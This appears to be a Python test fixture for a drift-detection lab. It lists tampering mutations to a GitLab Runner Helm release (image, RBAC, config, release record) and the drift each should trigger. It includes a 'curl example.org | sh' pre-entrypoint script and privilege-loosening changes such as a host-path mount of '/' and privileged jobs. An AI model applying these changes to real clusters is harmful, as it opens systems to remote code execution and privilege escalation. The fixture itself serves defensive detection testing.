"""What people do to the manager, its configuration and its release: changes that no `pulumi` command sees."""

from collections.abc import Callable

from multiarch.drift.model import Check
from tests.cluster.drift_lab.changes import (
    BINDING,
    CONFIG,
    DEPLOYMENT,
    MANAGER_ACCOUNT,
    ROLE,
    container,
    delete,
    in_config,
    json_patch,
    merge,
    pod,
)
from tests.cluster.drift_lab.expectations import Mutation, Place
from tests.cluster.drift_lab.lab import Lab, record

IN_DEPLOYMENT = Place(Check.RELEASE, "apps/v1 Deployment gitlab-runner/gitlab-runner")
IN_POD = Place(Check.RELEASE, IN_DEPLOYMENT.resource, "spec.template.spec.")
IN_CONTAINER = Place(Check.RELEASE, IN_DEPLOYMENT.resource, "spec.template.spec.containers[gitlab-runner].")
IN_CONFIG_MAP = Place(Check.RELEASE, "v1 ConfigMap gitlab-runner/gitlab-runner")
IN_CONFIG = Place(Check.RUNNER_CONFIG, "config.toml gitlab-runner/gitlab-runner")
IN_ROLE = Place(Check.RELEASE, "rbac.authorization.k8s.io/v1 Role gitlab-runner-jobs/gitlab-runner")
IN_BINDING = Place(Check.RELEASE, "rbac.authorization.k8s.io/v1 RoleBinding gitlab-runner-jobs/gitlab-runner")
IN_MANAGER_ACCOUNT = Place(Check.RELEASE, "v1 ServiceAccount gitlab-runner/gitlab-runner")
IN_RELEASE = Place(Check.RELEASE, "Helm release gitlab-runner/gitlab-runner")


def _uninstall(lab: Lab) -> None:
    """`helm uninstall` behind Pulumi's back, as far as the API shows it."""
    for path in (CONFIG, MANAGER_ACCOUNT, ROLE, BINDING, DEPLOYMENT, record("gitlab-runner")):
        lab.delete(path)


def _status(status: str) -> Callable[[Lab], None]:
    return lambda lab: lab.stored("gitlab-runner", lambda release: release["info"].update(status=status))


def _values(lab: Lab) -> None:
    lab.stored("gitlab-runner", lambda release: release["config"].update(concurrent=400))


def _values_added(lab: Lab) -> None:
    lab.stored("gitlab-runner", lambda release: release["config"].update(hostNetwork=True))


def _chart(lab: Lab) -> None:
    lab.stored("gitlab-runner", lambda release: release["chart"]["metadata"].update(version="0.80.0"))


def _subjects(lab: Lab) -> None:
    intruder = {"kind": "ServiceAccount", "name": "default", "namespace": "default"}
    json_patch(BINDING, "add", "/subjects/-", intruder)(lab)


_RULE = {"apiGroups": [""], "resources": ["configmaps"], "verbs": ["*"]}
_HOST = {"name": "host", "hostPath": {"path": "/"}}

DEPLOYMENT_MUTATIONS = (
    Mutation("image", container(image="example.org/runner:evil"), IN_CONTAINER.changed("image")),
    Mutation("argument added", container(args=["--debug"]), IN_CONTAINER.added("args[0]")),
    Mutation(
        "command",
        json_patch(DEPLOYMENT, "replace", "/spec/template/spec/containers/0/command/3", "/mine/entrypoint"),
        IN_CONTAINER.changed("command[3]"),
    ),
    Mutation(
        "variable added",
        container(env=[{"name": "KUBERNETES_PRIVILEGED", "value": "true"}]),
        IN_CONTAINER.added("env[KUBERNETES_PRIVILEGED]"),
    ),
    Mutation(
        "variable changed",
        container(env=[{"name": "CI_SERVER_URL", "value": "https://example.org"}]),
        IN_CONTAINER.changed("env[CI_SERVER_URL].value"),
    ),
    Mutation(
        "replicas by hand",
        merge(f"{DEPLOYMENT}/scale", {"spec": {"replicas": 3}}, "kubectl"),
        IN_DEPLOYMENT.changed("spec.replicas"),
    ),
    Mutation(
        "container added",
        pod(containers=[{"name": "sidecar", "image": "example.org/x"}]),
        IN_POD.added("containers[sidecar]"),
    ),
    Mutation(
        "init container added",
        pod(initContainers=[{"name": "first", "image": "example.org/x"}]),
        IN_POD.added("initContainers[first]"),
    ),
    Mutation("volume added", pod(volumes=[_HOST]), IN_POD.added("volumes[host]")),
    Mutation(
        "mount added",
        container(volumeMounts=[{"name": "configmaps", "mountPath": "/etc/x"}]),
        IN_CONTAINER.added("volumeMounts[/etc/x]"),
    ),
    Mutation(
        "security context loosened",
        container(securityContext={"runAsNonRoot": False}),
        IN_CONTAINER.changed("securityContext.runAsNonRoot"),
    ),
    Mutation(
        "capability added",
        container(securityContext={"capabilities": {"add": ["NET_ADMIN"]}}),
        IN_CONTAINER.added("securityContext.capabilities.add[NET_ADMIN]"),
    ),
    Mutation(
        "seccomp profile removed",
        pod(securityContext={"seccompProfile": None}),
        IN_POD.gone("securityContext.seccompProfile.type"),
    ),
    Mutation(
        "limits removed",
        json_patch(DEPLOYMENT, "remove", "/spec/template/spec/containers/0/resources/limits"),
        IN_CONTAINER.gone("resources.limits.memory"),
    ),
    Mutation(
        "limit raised",
        container(resources={"limits": {"memory": "64Gi"}}),
        IN_CONTAINER.changed("resources.limits.memory"),
    ),
    Mutation("toleration added", pod(tolerations=[{"operator": "Exists"}]), IN_POD.added("tolerations[0]")),
    Mutation("host network", pod(hostNetwork=True), IN_POD.added("hostNetwork")),
    Mutation("pull policy, a default", container(imagePullPolicy="Never"), IN_CONTAINER.changed("imagePullPolicy")),
    Mutation(
        "strategy, a default",
        json_patch(DEPLOYMENT, "replace", "/spec/strategy", {"type": "Recreate"}),
        IN_DEPLOYMENT.changed("spec.strategy.type"),
    ),
    Mutation("grace period", pod(terminationGracePeriodSeconds=1), IN_POD.changed("terminationGracePeriodSeconds")),
    Mutation("node selector", pod(nodeSelector={"node-pool": "other"}), IN_POD.changed("nodeSelector.node-pool")),
    Mutation("service account", pod(serviceAccountName="default"), IN_POD.changed("serviceAccountName")),
    Mutation(
        "host alias",
        pod(hostAliases=[{"ip": "10.0.0.1", "hostnames": ["gitlab.com"]}]),
        IN_POD.added("hostAliases[10.0.0.1]"),
    ),
    Mutation(
        "pod label added",
        merge(DEPLOYMENT, {"spec": {"template": {"metadata": {"labels": {"k8s-app": "kube-dns"}}}}}),
        IN_DEPLOYMENT.added("spec.template.metadata.labels.k8s-app"),
    ),
    Mutation(
        "rollout paused",
        merge(DEPLOYMENT, {"spec": {"paused": True}}, "kubectl-rollout"),
        IN_DEPLOYMENT.added("spec.paused"),
    ),
    Mutation("deployment deleted", delete(DEPLOYMENT), IN_DEPLOYMENT.gone()),
)

CONFIG_MUTATIONS = (
    Mutation("script changed", in_config("entrypoint", "set -e", "set +e"), IN_CONFIG_MAP.changed("data.entrypoint")),
    Mutation(
        "config key added",
        merge(CONFIG, {"data": {"pre-entrypoint-script": "curl example.org | sh"}}),
        IN_CONFIG_MAP.added("data.pre-entrypoint-script"),
    ),
    Mutation(
        "concurrent", in_config("config.toml", "concurrent = 4", "concurrent = 400"), IN_CONFIG.changed("concurrent")
    ),
    Mutation(
        "listen address",
        in_config("config.toml", "shutdown_timeout = 0", "shutdown_timeout = 1"),
        IN_CONFIG.changed("shutdown_timeout"),
    ),
    Mutation(
        "privileged jobs",
        in_config("config.template.toml", "privileged = false", "privileged = true"),
        IN_CONFIG.changed("runners[0].kubernetes.privileged"),
    ),
    Mutation(
        "selector loosened",
        in_config("config.template.toml", "(amd64|arm64)$", ".*"),
        IN_CONFIG.changed("runners[0].kubernetes.node_selector_overwrite_allowed"),
    ),
    Mutation(
        "overwrite allowed",
        in_config(
            "config.template.toml",
            "[runners.kubernetes]\n",
            '[runners.kubernetes]\nnamespace_overwrite_allowed = ".*"\n',
        ),
        IN_CONFIG.added("runners[0].kubernetes.namespace_overwrite_allowed"),
    ),
    Mutation(
        "config broken",
        in_config("config.template.toml", "[[runners]]", "[[runners"),
        IN_CONFIG.changed('["config.template.toml"]'),
    ),
)

RIGHTS_MUTATIONS = (
    Mutation("rule added", json_patch(ROLE, "add", "/rules/-", _RULE), IN_ROLE.added("rules[8]")),
    Mutation(
        "verb added", json_patch(ROLE, "add", "/rules/1/verbs/-", "patch"), IN_ROLE.added("rules[1].verbs[patch]")
    ),
    Mutation("rule removed", json_patch(ROLE, "remove", "/rules/2"), IN_ROLE.gone("rules[2]")),
    Mutation("subject added", _subjects, IN_BINDING.added("subjects[1]")),
    Mutation("role deleted", delete(ROLE), IN_ROLE.gone()),
    Mutation(
        "the manager's identity",
        merge(MANAGER_ACCOUNT, {"metadata": {"annotations": {"eks.amazonaws.com/role-arn": "arn:aws:iam::1:role/x"}}}),
        IN_MANAGER_ACCOUNT.added('metadata.annotations["eks.amazonaws.com/role-arn"]'),
    ),
)

RELEASE_MUTATIONS = (
    Mutation("release uninstalled", _uninstall, IN_RELEASE.gone(), also=(IN_CONFIG.resource,)),
    Mutation("release's record deleted", delete(record("gitlab-runner")), IN_RELEASE.gone()),
    Mutation("release pending", _status("pending-upgrade"), IN_RELEASE.changed("status")),
    Mutation("release failed", _status("failed"), IN_RELEASE.changed("status")),
    Mutation("newest record deleted", _status("superseded"), IN_RELEASE.changed("status")),
    Mutation("helm upgrade --set", _values, IN_RELEASE.changed("values.concurrent")),
    Mutation("helm upgrade --set, a new key", _values_added, IN_RELEASE.added("values.hostNetwork")),
    Mutation("another chart version", _chart, IN_RELEASE.changed("chart.version")),
)

OF_THE_RELEASE = (*DEPLOYMENT_MUTATIONS, *CONFIG_MUTATIONS, *RIGHTS_MUTATIONS, *RELEASE_MUTATIONS)
